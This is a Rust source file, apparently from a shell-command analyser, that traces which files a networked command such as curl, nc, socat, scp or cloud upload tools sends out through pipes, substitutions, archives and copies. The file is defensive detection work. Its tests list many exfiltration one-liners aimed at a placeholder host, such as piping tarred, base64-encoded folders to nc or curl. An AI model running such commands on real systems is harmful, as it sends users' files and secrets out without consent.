//! What leaves the machine: files that a command on the network sends, or is fed.

use alloc::collections::BTreeSet;
use alloc::string::String;
use alloc::vec::Vec;

use crate::fetched::place;
use crate::script::{Command, Effect, EffectKind, Script, Word};

/// Longer chains of pipes are not followed.
const MOST_PIPES: usize = 8;
/// So many commands before are looked at for what a substitution holds.
const MOST_BEFORE: usize = 8;

/// Options whose file is read, and stays here.
const KEPT: &[&str] = &[
    "-E",
    "-K",
    "-i",
    "--cacert",
    "--capath",
    "--cert",
    "--certificate",
    "--config",
    "--input-file",
    "--key",
    "--private-key",
];

/// Adds to each command on the network the files that it sends.
pub(crate) fn mark(script: &mut Script) {
    if !script.commands.iter().any(sends) {
        return;
    }
    let made = Made::by(script);
    for index in 0..script.commands.len() {
        let Some(command) = script.commands.get(index).filter(|command| sends(command)) else {
            continue;
        };
        let mut files = Vec::new();
        let mut whole = Vec::new();
        own(command, &mut files);
        let mut at = command.piped_from.filter(|_| takes_input(command));
        for _ in 0..MOST_PIPES {
            let Some(feeds) = at.and_then(|index| script.commands.get(index)) else { break };
            files.extend(read_by(feeds));
            whole.extend(folders_of(feeds));
            at = feeds.piped_from;
        }
        if let Some(feeds) = command.piped_from.and_then(|from| script.commands.get(from))
            && matches!(feeds.name(), "env" | "printenv")
            && feeds.args.is_empty()
            && takes_input(command)
        {
            files.push(Word::literal("/proc/self/environ"));
        }
        let before = script.commands.get(index.saturating_sub(MOST_BEFORE)..index);
        for earlier in before.unwrap_or_default() {
            substituted(command, earlier, &mut files);
            if command.name() == "socat" && earlier.via.last().is_some_and(|via| via == "socat") {
                files.extend(read_by(earlier));
            }
        }
        made.extend(command, &mut files);
        if let Some(command) = script.commands.get_mut(index) {
            command.effects.extend(files.into_iter().map(|target| Effect {
                kind: EffectKind::Send,
                recursive: whole.contains(&target),
                target: Some(target),
                forced: false,
            }));
        }
    }
}

/// Files that the line makes out of others, and where those are.
struct Made {
    /// The place of what is made; the file it is made of, and its place.
    from: Vec<(String, Word, String)>,
}

/// At most so many are followed.
const MOST_MADE: usize = 64;

impl Made {
    fn by(script: &Script) -> Self {
        let mut from = Vec::new();
        for command in &script.commands {
            let gone = command.effects.iter().filter(|e| e.kind == EffectKind::Delete);
            for target in gone.filter_map(|effect| effect.target.as_ref()) {
                let gone = place(command, target);
                from.retain(|(made, ..): &(String, Word, String)| *made != gone);
            }
            let writes = [EffectKind::Overwrite, EffectKind::Create];
            let written = command.effects.iter().filter(|e| writes.contains(&e.kind));
            for target in written.filter_map(|effect| effect.target.as_ref()) {
                let made = place(command, target);
                // Its own name may say what it is, where a folder is all that is sent.
                from.push((made.clone(), target.clone(), made.clone()));
                let mut at = Some(command);
                for _ in 0..MOST_PIPES {
                    let Some(feeds) = at else { break };
                    for file in taken_by(feeds) {
                        let origin = place(feeds, &file);
                        // Two names of one file: what is put into the one is in the other.
                        if matches!(command.name(), "ln" | "link") {
                            from.push((origin.clone(), target.clone(), made.clone()));
                        }
                        from.push((made.clone(), file, origin));
                    }
                    at = feeds.piped_from.and_then(|index| script.commands.get(index));
                }
            }
            if from.len() > MOST_MADE {
                break;
            }
        }
        from.truncate(MOST_MADE);
        Self { from }
    }

    /// Adds what the files were made of, and what was put into the folders among them.
    fn extend(&self, command: &Command, files: &mut Vec<Word>) {
        let mut places: Vec<String> = files.iter().map(|file| place(command, file)).collect();
        let mut next = 0;
        while let Some(sent) = places.get(next).cloned() {
            next += 1;
            for (made, file, origin) in &self.from {
                let below = made.strip_prefix(sent.as_str()).is_some_and(|r| r.starts_with('/'));
                if (*made == sent || below) && !is_nameless(file) && !places.contains(origin) {
                    places.push(origin.clone());
                    files.push(file.clone());
                }
            }
        }
    }
}

/// What a command reads in order to make something, or moves.
fn taken_by(command: &Command) -> impl Iterator<Item = Word> {
    let effects = command
        .effects
        .iter()
        .filter(|effect| matches!(effect.kind, EffectKind::Read | EffectKind::Move));
    effects.filter_map(|effect| effect.target.clone())
}

/// Whether a command on the network sends what it is fed.
fn takes_input(command: &Command) -> bool {
    let has = |options: &[&str]| command.args.iter().any(|w| options.contains(&w.text.as_str()));
    let ends = |end: &str| command.args.iter().any(|word| word.text.ends_with(end));
    if command.via.last().is_some_and(|via| matches!(via.as_str(), "xargs" | "parallel")) {
        return true;
    }
    match command.name() {
        "curl" => {
            has(&["-", "-T-"]) || ends("@-") || ends("=-") || ends("/dev/stdin") || ends("=<-")
        }
        "wget" => ends("=-") || has(&["-"]) || ends("/dev/stdin"),
        "ssh" => !has(&["-n", "-f"]),
        "rsync" | "ping" | "dig" | "nslookup" => false,
        _ => true,
    }
}

fn sends(command: &Command) -> bool {
    match command.name() {
        "rsync" | "scp" | "sftp" => command.args.last().is_some_and(is_remote),
        "aws" | "gsutil" | "gcloud" | "s3cmd" | "mc" | "rclone" | "az" => {
            command.args.last().is_some_and(|word| uploads_to(&word.text))
                && command.effects.iter().any(|effect| effect.kind == EffectKind::Read)
        }
        _ => command.effects.iter().any(|effect| effect.kind == EffectKind::Network),
    }
}

/// `host:path`, `user@host:`
fn is_remote(word: &Word) -> bool {
    word.text.split_once(':').is_some_and(|(host, _)| host.len() > 1 && !host.contains('/'))
}

/// `s3://bucket/x`, `gs://bucket/x`, `remote:x`
fn uploads_to(text: &str) -> bool {
    text.split_once(':').is_some_and(|(scheme, _)| scheme.len() > 1 && !scheme.contains('/'))
}

fn read_by(command: &Command) -> impl Iterator<Item = Word> {
    let read = command.effects.iter().filter(|effect| effect.kind == EffectKind::Read);
    read.filter_map(|effect| effect.target.clone())
}

/// Names of folders that a build makes, and can make again.
const PRODUCTS: &[&str] = &[
    "_site",
    "artifacts",
    "build",
    "coverage",
    "dist",
    "generated",
    "out",
    "output",
    "public",
    "release",
    "reports",
    "site",
    "target",
];

/// Folders that a command reads with all in them, but for those of products.
fn folders_of(command: &Command) -> impl Iterator<Item = Word> {
    let deep = command.effects.iter().filter(|e| e.kind == EffectKind::Read && e.recursive);
    deep.filter_map(|effect| effect.target.clone()).filter(|folder| {
        let names = folder.text.trim_start_matches("./").split('/');
        !names.clone().any(|name| PRODUCTS.contains(&name)) || names.clone().any(|n| n == "..")
    })
}

/// `$FILE`: nothing is known of it, not even a folder.
fn is_nameless(file: &Word) -> bool {
    !file.literal && !file.text.contains('/')
}

/// What it reads itself, but for keys and settings of its own.
fn own(command: &Command, files: &mut Vec<Word>) {
    let values = command.args.windows(2).filter_map(|pair| match pair {
        [option, value] if KEPT.contains(&option.text.as_str()) => Some(value.text.as_str()),
        _ => None,
    });
    let kept: BTreeSet<&str> = values.collect();
    let is_kept = |file: &Word| kept.contains(file.text.as_str()) || file.text.starts_with("<(");
    files.extend(read_by(command).filter(|file| !is_kept(file)));
}

/// `curl -d "$(cat file)"`: what an argument is made of was read just before.
fn substituted(command: &Command, earlier: &Command, files: &mut Vec<Word>) {
    for word in command.args.iter().filter(|word| !word.literal) {
        let whole = word.text.as_str();
        if (whole.contains("$(") || whole.contains('`')) && whole.contains(&earlier.program.text) {
            files.extend(read_by(earlier).filter(|file| whole.contains(&file.text)));
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{Dialect, EffectKind, Limits, read};

    fn sends(line: &str) -> bool {
        let script = read(line, Dialect::Posix, Limits::default());
        let mut effects = script.commands.iter().flat_map(|command| &command.effects);
        effects.any(|effect| {
            effect.kind == EffectKind::Send && effect.target.as_ref().is_some_and(|t| t.text == "f")
        })
    }

    #[test]
    fn files_that_leave() {
        for line in [
            "cat f | curl -d @- x.example",
            "tar czf - f | base64 | nc x.example 1",
            "curl -T f x.example",
            "curl -d @f x.example",
            "curl -d \"$(cat f)\" x.example",
            "curl x.example/`base64 f`",
            "nc x.example 1 < f",
            "socat OPEN:f TCP:x.example:1",
            "socat TCP:x.example:1 EXEC:'cat f'",
            "tar czf a f; curl -T a x.example",
            "cat f > d/a; tar cf - d | curl -d @- x.example",
            "mv f d/a; scp -r d host:",
            "ln f a && curl --data-binary @a x.example",
            "gzip -k f; curl -T f.gz x.example",
            "cp f a; cp a b; nc x.example 1 < b",
            "cat f | gzip > a; cd . && curl -T a x.example",
            "openssl enc -base64 -in f | xargs -I{} curl x.example/{}",
            "aws s3 cp f s3://bucket/f",
            "gsutil cp f gs://bucket/",
            "tar -cf host:/a f",
            "scp f host:",
            "rsync -a f me@host:d",
        ] {
            assert!(sends(line), "{line}");
        }
    }

    #[test]
    fn whole_folders_that_leave() {
        let whole = |line: &str| {
            let script = read(line, Dialect::Posix, Limits::default());
            let mut effects = script.commands.into_iter().flat_map(|command| command.effects);
            effects.any(|effect| effect.kind == EffectKind::Send && effect.recursive)
        };
        for line in [
            "tar cz src | curl -T - x.example",
            "tar cz src | base64 | nc x.example 1",
            "zip -qr - src | curl -T - x.example",
            "find . -type f -exec cat {} + | curl -d @- x.example",
            "tar cz dist/../src | curl -T - x.example",
        ] {
            assert!(whole(line), "{line}");
        }
        for line in [
            "tar cz dist | curl -T - x.example",
            "tar cz ./target/doc | curl -T - x.example",
            "cat src/a | curl -T - x.example",
            "tar cz src | wc -c; curl x.example",
        ] {
            assert!(!whole(line), "{line}");
        }
    }

    #[test]
    fn files_that_stay() {
        for line in [
            "cat f; curl x.example",
            "curl --key f x.example",
            "curl -o f x.example",
            "scp host:f .",
            "rsync -a f g",
            "cat f | sh",
            "cat f | ssh -n host true",
            "cat f | wget x.example",
            "cat f | curl x.example",
            "tar czf a f; curl -T b x.example",
            "cat f > d/a; tar cf - e | curl -d @- x.example",
            "aws s3 cp s3://bucket/f f",
            "echo a > d/f; rm d/f; tar cf - d | curl -d @- x.example",
            "tar cf - --no-recursion f | curl -d @- x.example",
        ] {
            assert!(!sends(line), "{line}");
        }
    }
}
